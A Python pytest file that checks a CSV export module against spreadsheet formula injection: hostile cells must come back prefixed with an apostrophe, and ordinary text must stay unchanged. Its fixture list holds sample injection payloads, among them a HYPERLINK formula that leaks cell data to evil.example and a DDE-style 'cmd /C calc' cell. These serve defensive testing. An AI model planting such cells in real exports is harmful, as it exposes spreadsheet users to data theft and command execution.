"""CSV exports: hostile cells come back as inert text, everything else unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from copilot.exports import csv_bytes, csv_text, safe_cell, write_csv

HOSTILE = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    ),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("-1+2", "'-1+2"),
    ("+1-1", "'+1-1"),
    ("\t=1", "'\t=1"),
    ("\r=1+1", "'\r=1+1"),
    ("=1+1，价格太贵了", "'=1+1，价格太贵了"),
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("cell", "expected"), HOSTILE)
def test_formula_cells_get_a_leading_apostrophe(cell: str, expected: str) -> None:
    assert safe_cell(cell) == expected
    rows = read_back(csv_text([["s-1", cell]], ["id", "text"]))
    assert rows == [["id", "text"], ["s-1", expected]]


def test_ordinary_text_numbers_and_empty_cells_are_unchanged() -> None:
    text = csv_text(
        [
            ["价格太贵了，我们再考虑一下", -3, 0.25, None, True],
            ['It\'s fine, "really"\nnext line', 12, -0.5, "a=b", False],
        ],
        ["text", "n", "rate", "none", "flag"],
    )
    assert read_back(text) == [
        ["text", "n", "rate", "none", "flag"],
        ["价格太贵了，我们再考虑一下", "-3", "0.25", "", "true"],
        ['It\'s fine, "really"\nnext line', "12", "-0.5", "a=b", "false"],
    ]


def test_mapping_rows_follow_the_header_and_a_missing_key_is_empty() -> None:
    stream = io.StringIO(newline="")
    written = write_csv(
        [{"id": "a", "text": "@me"}, {"text": "=2*3", "id": "b", "extra": "ignored"}, {"id": "c"}],
        ["id", "text"],
        stream,
    )
    assert written == 3
    assert read_back(stream.getvalue()) == [
        ["id", "text"],
        ["a", "'@me"],
        ["b", "'=2*3"],
        ["c", ""],
    ]


def test_header_cells_are_neutralised_too() -> None:
    assert read_back(csv_text([], ["=cmd", "ok"])) == [["'=cmd", "ok"]]


def test_csv_bytes_are_utf8_with_a_bom_for_excel() -> None:
    body = csv_bytes([["华信医疗", "=1"]], ["account", "note"])
    assert body.startswith(b"\xef\xbb\xbf")
    assert read_back(body.decode("utf-8-sig")) == [["account", "note"], ["华信医疗", "'=1"]]
